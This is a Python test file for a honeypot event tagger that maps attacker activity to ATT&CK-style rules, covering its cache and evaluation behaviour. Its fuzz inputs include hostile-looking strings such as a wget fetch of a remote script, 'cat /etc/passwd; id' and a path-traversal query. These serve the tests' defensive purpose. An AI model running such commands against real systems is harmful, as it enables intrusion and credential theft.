# SPDX-License-Identifier: AGPL-3.0-or-later
"""What is remembered of events: never more than its bounds, never anything but what they said."""

from __future__ import annotations

import gzip
from collections.abc import Iterable, Iterator, Sequence
from pathlib import Path
from typing import Any

import orjson
import pytest
from google.protobuf.timestamp_pb2 import Timestamp
from hypothesis import example, given
from hypothesis import strategies as st

from decnet_ttp.attack import Catalogue
from decnet_ttp.cli.corpus import row_of, write_events
from decnet_ttp.core.source_kinds import PAYLOAD_FIELD, SourceKind
from decnet_ttp.ingest.payloads import fill
from decnet_ttp.rule_store.loader import load_pack
from decnet_ttp.rule_store.vocabulary import Vocabulary
from decnet_ttp.tagger.evaluation import Evaluation
from decnet_ttp.tagger.excerpt import (
    MAX_CONTENT_BYTES,
    REPEATED_KINDS,
    Excerpt,
    Lifted,
    Memory,
)
from decnet_ttp.tagger.lifter import PASSING_FIELDS, Finding, load_lifters, unread_fields
from decnet_ttp.tagger.lifters.rule_engine import RuleEngine
from decnet_ttp.tagger.rule_set import RuleSet
from decnet_ttp.v1 import event_pb2, rule_pb2, scope_pb2, tag_pb2, tagger_service_pb2
from matching.builders import command, field, rule
from tagger.lifters.lifting import RULES

NOW_S = 1_800_000_000.0
ANCHOR = scope_pb2.Anchor(attacker_uuid="6f9619ff-8b86-5d01-b42d-00cf4fc964ff")
LIFTERS = load_lifters(())


@pytest.fixture(scope="module")
def shipped(catalogue: Catalogue) -> RuleSet:
    pack = load_pack([RULES], Vocabulary(catalogue), with_examples=False)
    return RuleSet.empty().changed([each.message for each in pack.rules], (), LIFTERS, catalogue)


def evaluation() -> Evaluation:
    return Evaluation(LIFTERS, attack_release="r", clock=lambda: NOW_S)


def request(events: Iterable[event_pb2.Event]) -> tagger_service_pb2.TagEventsRequest:
    """Each event in a group of its own, so that no timeline is fulfilled."""
    groups = [
        event_pb2.EventGroup(origin_id=f"o{n}", anchor=ANCHOR, events=[event])
        for n, event in enumerate(events)
    ]
    return tagger_service_pb2.TagEventsRequest(groups=groups)


def direct(rules: RuleSet, event: event_pb2.Event) -> Iterator[tuple[str, tag_pb2.Evidence]]:
    """Yield rule and evidence of each tag an event gives, by the lifters alone."""
    for evaluator in rules.evaluators.values():
        for finding in evaluator.lift(event):
            live = rules.rules[finding.rule.rule_id]
            if finding.step is None and not live.experimental:
                for position in finding.emissions:
                    if live.targets[position] is not None:
                        yield finding.rule.rule_id, finding.evidence


async def tagged_twice(
    rules: RuleSet, events: Sequence[event_pb2.Event]
) -> list[tagger_service_pb2.TagEventsResponse]:
    """Tag events three times with one memory, so that each is found, found again, and copied."""
    tagger = evaluation()
    return [await tagger.tag(request(events), rules) for _ in range(3)]


async def hold(rules: RuleSet, events: Sequence[event_pb2.Event]) -> None:
    """Hold what a memory gives against what lifters give without one."""
    first, *later = await tagged_twice(rules, events)
    assert later == [first] * 2
    assert not first.failures
    made = {group.origin_id: list(group.tags) for group in first.groups}
    for number, event in enumerate(events):
        tags = made.get(f"o{number}", [])
        assert [(tag.rule_id, tag.evidence) for tag in tags] == list(direct(rules, event))
        assert all(tag.source_id == event.source_id for tag in tags)
        assert all(tag.observe_time == event.observe_time for tag in tags)


TEXTS = st.text(max_size=8) | st.sampled_from(
    (
        "root", "admin", "failure", "success", "uname -a", "wget http://198.51.100.1/x.sh",
        "cat /etc/passwd; id", "FLUSHALL", "/.env", "/?q=../../etc/passwd", "sqlmap/1.0", "nmap",
        "SSH-2.0-nmap_x", "SSH-2.0-Go", "brute_force", "privileged:true", "startup-config",
    )
)  # fmt: skip
EXTRAS = (
    "src_port", "dst_port", "behavior_class", "tool_guess", "topic", "path", "command_text", "x"
)  # fmt: skip


@st.composite
def any_events(draw: st.DrawFn) -> event_pb2.Event:
    kind = draw(st.sampled_from(sorted(REPEATED_KINDS)))
    member = event_pb2.Event.DESCRIPTOR.fields_by_name[PAYLOAD_FIELD[SourceKind(kind)]]
    names = st.sampled_from([each.name for each in member.message_type.fields] + list(EXTRAS))
    numbers = st.integers(0, 2**31) | st.floats(0, 1e9)
    values = TEXTS | numbers | st.booleans() | st.lists(TEXTS, max_size=3) | st.none()
    event = event_pb2.Event(source_id=draw(st.text("abc", min_size=1, max_size=4)))
    fill(event, kind, draw(st.dictionaries(names, values, max_size=6)), frozenset())
    if draw(st.booleans()):
        event.observe_time.seconds = draw(st.integers(0, 2**32))
    return event


@given(events=st.lists(any_events(), min_size=1, max_size=4))
async def test_what_is_remembered_is_what_lifters_find(
    shipped: RuleSet, events: list[event_pb2.Event]
) -> None:
    await hold(shipped, events)


@given(event=any_events(), values=st.lists(st.integers(0, 2**16), min_size=4, max_size=4))
@example(event=event_pb2.Event(source_kind="session"), values=[1, 2, 3, 4])
def test_nothing_follows_from_fields_that_are_left_out(
    shipped: RuleSet, event: event_pb2.Event, values: list[int]
) -> None:
    """Whatever stands in them, lifters find the same."""
    event.source_kind = "session"
    bare = event_pb2.Event()
    bare.CopyFrom(event)
    for name in ("duration_s", "command_count"):
        bare.session.ClearField(name)
    for name in ("src_port", "dst_port"):
        bare.extra.fields.pop(name, None)
    event.session.duration_s, event.session.command_count = values[:2]
    event.extra.update({"src_port": values[2], "dst_port": values[3]})
    assert list(direct(shipped, event)) == list(direct(shipped, bare))


@pytest.mark.shared
async def test_a_memory_changes_nothing_on_real_events(shipped: RuleSet, shared_dir: Path) -> None:
    folder = shared_dir / "data"
    files = [folder / "unlabelled/cowrie_sessions.jsonl.gz", folder / "http/scanners.jsonl.gz"]
    events: list[event_pb2.Event] = []

    def sink(kind: str) -> list[event_pb2.Event]:
        events.append(event_pb2.Event(source_kind=kind))
        return events[-1:]

    for file in files:
        for number, line in enumerate(gzip.decompress(file.read_bytes()).splitlines()[::11]):
            write_events(row_of(orjson.loads(line), f"{file.name}:{number}"), f"row{number}", sink)
    assert {"command", "session", "http_request"} <= {event.source_kind for event in events}
    for start in range(0, len(events), 5_000):
        await hold(shipped, events[start : start + 5_000])


def test_shipped_lifters_let_sessions_and_their_parts_be_remembered(shipped: RuleSet) -> None:
    for kind in REPEATED_KINDS:
        for evaluator in shipped.evaluators.values():
            if kind in evaluator.source_kinds:
                assert unread_fields(evaluator, kind) == PASSING_FIELDS.get(kind, frozenset())


def test_a_field_that_some_rule_reads_is_no_passing_one(catalogue: Catalogue) -> None:
    reading = rule("R1", field("extra.src_port", equals=["7"]), "session")
    long = rule("R2", field("duration_s", compare=rule_pb2.NumericComparison(gt=60)), "session")
    rules = RuleSet.empty().changed([reading, long], (), [RuleEngine()], catalogue)
    left = unread_fields(rules.evaluators["rule_engine"], "session")
    assert left == {"command_count", "extra.dst_port"}


class _Clocked:
    """A lifter of somebody else's that looks at more than what an event says."""

    name = "clocked"
    source_kinds: frozenset[str] = frozenset({"command"})

    def __init__(self, made: rule_pb2.Rule) -> None:
        self._rule = made

    def owns(self, rule: rule_pb2.Rule) -> bool:
        return rule.rule_id == self._rule.rule_id

    def compile(self, rules: Sequence[rule_pb2.Rule], previous: object) -> _Clocked:
        return self

    def rule_ids(self, source_kind: str) -> Sequence[str]:
        return [self._rule.rule_id]

    def lift(self, event: event_pb2.Event) -> Iterator[Finding]:
        if event.observe_time.seconds % 2:
            yield Finding(self._rule, tag_pb2.Evidence(), [0])

    def lift_rule(self, event: event_pb2.Event, rule_id: str) -> Iterator[Finding]:
        return self.lift(event)


async def test_a_lifter_that_does_not_say_so_sees_every_event(catalogue: Catalogue) -> None:
    own = rule("C1", field("command_text", contains=["-"]))
    lifters: list[Any] = [_Clocked(own), RuleEngine()]
    whoami = rule("R1", field("command_text", contains=["whoami"]))
    rules = RuleSet.empty().changed([whoami], (), [RuleEngine()], catalogue)
    rules = RuleSet(
        {**rules.rules, "C1": RuleSet.empty().changed([own], (), lifters, catalogue).rules["C1"]},
        {**rules.evaluators, "clocked": lifters[0]},
        {},
    )
    events = [command("whoami") for _ in range(4)]
    for number, event in enumerate(events):
        event.observe_time.CopyFrom(Timestamp(seconds=number))
    tagger = Evaluation(lifters, attack_release="r", clock=lambda: NOW_S)
    answer = await tagger.tag(request(events), rules)
    made = [[tag.rule_id for tag in group.tags] for group in answer.groups]
    assert made == [["R1"], ["R1", "C1"], ["R1"], ["R1", "C1"]]


async def test_nothing_found_by_other_rules_is_remembered(catalogue: Catalogue) -> None:
    before = rule("R1", field("command_text", contains=["whoami"]))
    after = rule("R1", field("command_text", contains=["uname"]))
    after.rule_version = 2
    rules = RuleSet.empty().changed([before], (), [RuleEngine()], catalogue)
    tagger = Evaluation([RuleEngine()], attack_release="r", clock=lambda: NOW_S)
    events = [command("whoami"), command("uname")] * 2
    first = await tagger.tag(request(events), rules)
    second = await tagger.tag(
        request(events), rules.changed([after], (), [RuleEngine()], catalogue)
    )
    assert [group.origin_id for group in first.groups] == ["o0", "o2"]
    assert [group.origin_id for group in second.groups] == ["o1", "o3"]
    assert {tag.rule_version for group in second.groups for tag in group.tags} == {2}


@given(any_events())
def test_content_says_all_but_what_sets_events_apart(event: event_pb2.Event) -> None:
    excerpt = Excerpt(event.source_kind)
    content = excerpt.content(event)
    assert content is not None
    seen = excerpt.event(content)
    assert excerpt.content(seen) == content
    assert not seen.source_id
    assert not seen.HasField("observe_time")
    member = PAYLOAD_FIELD[SourceKind(event.source_kind)]
    assert getattr(seen, member) == getattr(event, member)
    assert seen.extra == event.extra


def test_long_content_is_not_remembered() -> None:
    excerpt = Excerpt("command")
    assert excerpt.content(command("x" * (MAX_CONTENT_BYTES - 8))) is not None
    assert excerpt.content(command("x" * (MAX_CONTENT_BYTES + 1))) is None


def test_a_memory_keeps_what_is_asked_for_within_its_bound() -> None:
    entry = Lifted((), (), content_bytes=100)
    memory = Memory(max_bytes=20 * entry.size_bytes)
    memory.put(("command", b"often", b""), Lifted((), (), content_bytes=100))
    for number in range(1_000):
        memory.put(("command", b"%d" % number, b""), Lifted((), (), content_bytes=100))
        assert len(memory) <= 20
        assert memory.get(("command", b"often", b"")) is not None
    assert memory.get(("command", b"0", b"")) is None
    assert memory.get(("command", b"999", b"")) is not None


def test_what_alone_would_fill_a_memory_is_not_kept() -> None:
    memory = Memory(max_bytes=10_000)
    memory.put(("command", b"x", b""), Lifted((), (), content_bytes=5_000))
    assert len(memory) == 0
